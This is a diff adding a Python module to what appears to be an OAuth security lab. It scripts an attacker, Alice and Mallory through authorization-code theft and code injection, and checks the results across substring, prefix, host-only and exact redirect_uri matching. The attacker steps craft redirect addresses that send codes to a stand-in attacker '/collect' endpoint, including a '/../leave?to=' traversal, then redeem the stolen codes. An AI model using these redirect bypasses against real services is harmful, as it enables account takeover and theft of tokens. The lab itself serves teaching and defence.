@@ -1,0 +1,83 @@
+"""Who starts the flow owns it: three rows, three clients, four ways to compare an address."""
+
+from labs.cells import Cell
+from labs.people import told_in
+from labs.stage import Stage, Stuck
+from labs.steps import step
+
+NO_CLIENT = {"party": "auth", "method": "POST", "path": "/token", "status": 401, "error": "invalid_client"}
+NO_GRANT = {"party": "auth", "method": "POST", "path": "/token", "status": 400, "error": "invalid_grant"}
+LEAKED, REDEEMED, INJECTED = "the client starts, the code leaks", "the attacker starts and redeems", "and injects"
+EXACT = {"party": "auth", "method": "GET", "path": "/authorize", "status": 400}
+LOOSE = ("substring", "prefix", "host only")
+
+# What each cell must end in; the first is the attack of the button.
+CELLS = [
+    Cell(REDEEMED, "balance", {"substring": None, "prefix": None, "host only": None, "exact": EXACT}),
+    Cell(REDEEMED, "budget", dict.fromkeys(LOOSE, NO_CLIENT) | {"exact": EXACT}),
+    Cell(REDEEMED, "piggy", {"substring": None, "exact": EXACT}),
+    Cell(LEAKED, "balance", dict.fromkeys((*LOOSE, "exact"), NO_GRANT)),
+    Cell(LEAKED, "budget", dict.fromkeys((*LOOSE, "exact"), NO_CLIENT)),
+    Cell(LEAKED, "piggy", dict.fromkeys((*LOOSE, "exact"), NO_GRANT)),
+    Cell(INJECTED, "budget", dict.fromkeys(LOOSE, NO_GRANT) | {"exact": EXACT}),
+]
+
+
+@step("attacker")
+def makes_a_link(stage: Stage) -> None:
+    """Make a link to Alice's bank: an app's name, a return address that is almost the app's, an own challenge."""
+    cell = stage.cell or CELLS[0]
+    client_id = cell.client
+    if cell.row == LEAKED:
+        stage.onward = "" if client_id == "budget" else stage.app_asks(client_id)
+        return
+    stage.kept["redirect_uri"] = leads_to_attacker(stage, client_id)
+    changes = {}
+    if cell.row == INJECTED:
+        stage.mallory.holds_back = f"{stage.here.auth}/login"  # her own flow stops there: it is only for its challenge
+        stage.mallory.go(f"{stage.here.budget}/connect")
+        begun = told_in(stage.mallory.visited("/authorize"))
+        stage.kept["state"], changes = begun["state"], {"code_challenge": begun["code_challenge"]}
+    stage.onward = stage.link(client_id, stage.kept["redirect_uri"], **changes)
+
+
+@step("Alice")
+def alice_follows_the_link(stage: Stage) -> None:
+    """Follow the link, sign in at the real Bank ID as alice, and allow."""
+    cell = stage.cell or CELLS[0]
+    if cell.row == LEAKED:
+        stage.alice.holds_back = stage.callback(cell.client)  # the code is in the address, the app never gets it
+    stage.alice.go(stage.onward or f"{stage.here.budget}/connect").agree()
+    stage.onward = ""
+
+
+@step("attacker")
+def spends_the_code(stage: Stage) -> None:
+    """Redeem the code that came, with the attacker's own verifier; then ask the bank."""
+    cell = stage.cell or CELLS[0]
+    if cell.row == LEAKED:
+        told = stage.leak("history", stage.alice.handed_over)
+        form = {"redirect_uri": stage.callback(cell.client), "code_verifier": "made-up-" * 6}
+    else:
+        told = {"code": stage.collection.newest("code")}
+        form = {"redirect_uri": stage.kept.get("redirect_uri", ""), "code_verifier": stage.kept.get("verifier", "")}
+    if not told.get("code"):
+        raise Stuck("no code came to the attacker")
+    if cell.row == INJECTED:
+        query = f"code={told['code']}&state={stage.kept['state']}&iss={stage.here.auth}"
+        stage.mallory.holds_back = ""
+        stage.mallory.go(f"{stage.here.budget}/callback?{query}").go(f"{stage.here.budget}/")
+        return
+    token = stage.attacker.redeem(told["code"], client_id=cell.client, **form)
+    if token:
+        stage.attacker.bank("GET", "/accounts", token)
+
+
+def leads_to_attacker(stage: Stage, client_id: str) -> str:
+    """Return an address that the rule of this world takes for the client's."""
+    registered, attacker = stage.callback(client_id), f"{stage.here.attacker}/collect"
+    if stage.choice == "prefix" and client_id != "piggy":
+        return f"{registered}/../leave?to={attacker}"
+    if stage.choice == "host only" and client_id != "piggy":
+        return f"{stage.here.origin(client_id)}/leave?to={attacker}"
+    return f"{attacker}?x={registered}"
